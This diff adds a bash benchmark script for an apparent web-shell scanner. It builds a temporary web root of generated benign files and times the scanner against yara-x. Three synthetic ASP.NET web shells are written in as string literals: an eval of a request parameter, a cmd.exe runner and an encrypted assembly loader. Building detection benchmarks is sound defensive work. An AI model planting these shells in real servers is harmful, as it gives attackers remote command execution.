@@ -1,0 +1,72 @@
+#!/usr/bin/env bash
+# File-scan benchmark: a generated web root of >= 20,000 files (mostly benign pages, scripts
+# and images, a few synthetic shells written here) scanned by exhunt's file hunter and by
+# `yr` (yara-x-cli) with the same embedded YARA rules. Goal: exhunt <= 1.0x yr's wall time.
+# Usage: bench/files.sh [FILES]   (default 20000). Results go to bench/FILES_RESULTS.md by hand.
+# Note: uses the files_scan example until `exhunt scan` wires the file hunter; then switch
+# "$exhunt" to `exhunt scan ROOT --quiet`.
+set -euo pipefail
+cd "$(dirname "${BASH_SOURCE[0]}")/.."
+n="${1:-20000}"
+export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$PWD/target}"
+tools="$CARGO_TARGET_DIR/bench-tools"
+if [ ! -x "$tools/bin/yr" ]; then
+    cargo install yara-x-cli --locked --root "$tools"
+fi
+yr="$tools/bin/yr"
+cargo build -q --release -p exhunt-files --example files_scan
+exhunt="$CARGO_TARGET_DIR/release/examples/files_scan"
+work="$(mktemp -d)"; trap 'rm -rf "$work"' EXIT
+root="$work/EX01/C"
+web="$root/inetpub/wwwroot"
+mkdir -p "$root/Windows/System32" "$web"
+python3 - "$web" "$n" <<'PY'
+import os, random, sys
+web, n = sys.argv[1], int(sys.argv[2])
+random.seed(7)
+words = "order customer invoice report product list detail edit view search account".split()
+def page(i):
+    w = random.sample(words, 3)
+    body = "\n".join(f'<asp:Label runat="server" ID="l{j}" Text="<%# Eval(\\"{random.choice(words)}\\") %>" />' for j in range(random.randint(5, 60)))
+    return f'<%@ Page Language="C#" MasterPageFile="~/Site.master" CodeBehind="{w[0]}.aspx.cs" Inherits="Shop.{w[0].title()}{i}" %>\n<asp:Content runat="server">\n{body}\n</asp:Content>\n'
+def script(i):
+    return "".join(f"function f{i}_{j}(a){{ return a.{random.choice(words)} + {j}; }}\n" for j in range(random.randint(10, 200)))
+def css(i):
+    return "".join(f".c{i}_{j} {{ margin: {j}px; color: #{random.randrange(16**6):06x}; }}\n" for j in range(random.randint(10, 150)))
+def image(i):
+    return b"\x89PNG\r\n\x1a\n" + os.urandom(random.randint(500, 40000))
+kinds = [("aspx", page, "w"), ("js", script, "w"), ("css", css, "w"), ("png", image, "wb"), ("html", page, "w")]
+for i in range(n):
+    d = os.path.join(web, f"app{i % 40}", f"sub{(i // 40) % 25}")
+    os.makedirs(d, exist_ok=True)
+    ext, gen, mode = kinds[i % len(kinds)]
+    with open(os.path.join(d, f"f{i}.{ext}"), mode) as f:
+        f.write(gen(i))
+# A few synthetic shells (written for this benchmark; same idioms as the tests).
+shells = {
+    "aspnet_client/system_web/zxcvbnmq.aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
+    "app3/sub4/x.ashx": '<%@ WebHandler Language="C#" Class="H" %>\npublic class H { void P(System.Web.HttpContext c){ System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c.Request.Form["a"])); } }',
+    "app7/sub1/l.aspx": '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ byte[] c = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("P").Equals(this); }</script>',
+}
+for rel, text in shells.items():
+    p = os.path.join(web, rel)
+    os.makedirs(os.path.dirname(p), exist_ok=True)
+    open(p, "w").write(text)
+PY
+files=$(find "$root" -type f | wc -l)
+bytes=$(du -sb "$root" | cut -f1)
+# The same YARA rules for yr: the embedded pack with the hunter's external variables.
+rules="$work/rules.yar"; : > "$rules"
+for f in rules/files/*.yar; do cat "$f" >> "$rules"; echo >> "$rules"; done
+defs=(--define 'filename=""' --define 'filepath=""' --define 'extension=""' --define 'filetype=""'
+      --define 'exhunt_area="web"' --define exhunt_depth=0 --define exhunt_stock=false --define exhunt_webpage=true)
+sync
+echo "files: $files, bytes: $bytes"
+t() { local s e; s=$(date +%s.%N); "$@" > "$work/out.txt" 2> "$work/err.txt" || true; e=$(date +%s.%N); echo "$e - $s" | bc; }
+for run in 1 2 3; do
+    ty=$(t "$yr" scan --threads 2 --recursive "${defs[@]}" "$rules" "$root")
+    te=$(t "$exhunt" "$work" --threads 2 --list)
+    hits_e=$(grep -c . "$work/out.txt" || true)
+    echo "run $run: yr ${ty}s, exhunt ${te}s (exhunt findings: $hits_e)"
+done
+"$yr" scan --threads 2 --recursive "${defs[@]}" "$rules" "$root" | awk '{print $1}' | sort | uniq -c
